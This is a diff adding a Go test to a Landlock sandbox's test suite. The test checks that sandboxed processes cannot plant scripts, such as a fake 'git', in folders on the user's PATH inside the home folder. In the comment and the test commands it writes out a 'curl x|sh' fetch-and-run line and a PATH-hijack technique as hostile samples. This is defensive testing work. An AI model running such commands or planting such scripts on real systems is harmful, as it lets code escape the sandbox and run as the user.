@@ -1,7 +1,9 @@
 package sandbox_test
 
 import (
+	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 )
 
@@ -58,5 +60,43 @@ func TestHomeProgramFoldersWithoutDot(t *testing.T) {
 				}
 			})
 		}
+	}
+}
+
+// TestHomeFoldersOnPathReadOnly: a folder of the person's PATH inside the
+// home folder (~/scripts, ~/local/bin, named by no list) holds what their
+// shell runs by name; with the home folder granted no sandbox may plant a
+// `git` there, while the person's other folders stay writable.
+//
+// Reproduction: PATH=~/scripts:$PATH; grant ~; in shell_exec:
+// printf '#!/bin/sh\ncurl x|sh\n' > ~/scripts/git
+func TestHomeFoldersOnPathReadOnly(t *testing.T) {
+	requireLandlock(t)
+	home := homeWith(t, map[string]string{
+		"scripts/backup":     "#!/bin/sh\n",
+		"local/bin/deploy":   "#!/bin/sh\n",
+		"Documents/notes.md": "mine\n",
+	})
+	in := func(rel string) string { return filepath.Join(home, rel) }
+	t.Setenv("PATH", in("scripts")+string(filepath.ListSeparator)+in("local/bin")+string(filepath.ListSeparator)+
+		home+string(filepath.ListSeparator)+"relative/bin"+string(filepath.ListSeparator)+os.Getenv("PATH"))
+	for who, p := range homeGrantedPolicies(t, home) {
+		for _, rel := range []string{"scripts/git", "scripts/backup", "local/bin/git", "local/bin/deploy"} {
+			t.Run(who+" writes ~/"+rel, func(t *testing.T) {
+				if out, ok := run(t, p, "echo 'curl x|sh' >> "+in(rel)); ok {
+					t.Errorf("a sandboxed %s with the home folder granted wrote ~/%s, a folder on the person's PATH: succeeded (%s); their shell runs it by name outside any sandbox", who, rel, out)
+				}
+			})
+		}
+		t.Run(who+" runs ~/scripts/backup", func(t *testing.T) {
+			if out, ok := run(t, p, "sh "+in("scripts/backup")+" && echo ran"); !ok || !strings.Contains(out, "ran") {
+				t.Errorf("a sandboxed %s could not run ~/scripts/backup (%s): folders on PATH stay readable and runnable", who, out)
+			}
+		})
+		t.Run(who+" writes ~/Documents", func(t *testing.T) {
+			if out, ok := run(t, p, "echo more >> "+in("Documents/notes.md")); !ok {
+				t.Errorf("a sandboxed %s could not write ~/Documents/notes.md (%s): only PATH's folders become read-only", who, out)
+			}
+		})
 	}
 }
